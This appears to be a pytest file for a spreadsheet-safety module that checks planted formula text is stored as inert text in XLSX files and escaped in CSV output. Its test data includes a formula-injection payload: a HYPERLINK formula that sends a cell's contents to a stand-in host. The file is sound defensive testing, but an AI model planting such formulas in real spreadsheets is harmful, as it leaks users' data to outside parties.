"""Text a spreadsheet would run (a planted `=HYPERLINK(...)`) is written as text and read back as typed."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from relief.spreadsheets import safe_csv_value, safe_sheet

PLANTED = ['=HYPERLINK("http://x.example/?leak="&C2,"点我")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_text_is_stored_as_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = safe_sheet(wb.create_sheet("s") if write_only else wb.active)
    ws.append([*PLANTED, "张三", 42])
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        assert b"<f>" not in z.read(sheet)  # no formula anywhere in the file
    row = next(load_workbook(io.BytesIO(buf.getvalue())).worksheets[0].iter_rows(values_only=True))
    # XML keeps a carriage return as a line feed; everything else comes back exactly as typed
    assert list(row) == [*(v.replace("\r", "\n") for v in PLANTED), "张三", 42]


def test_csv_values_keep_what_was_typed_visible():
    assert safe_csv_value("=1+1") == "'=1+1"
    assert safe_csv_value("张三") == "张三"
    assert safe_csv_value(5) == 5
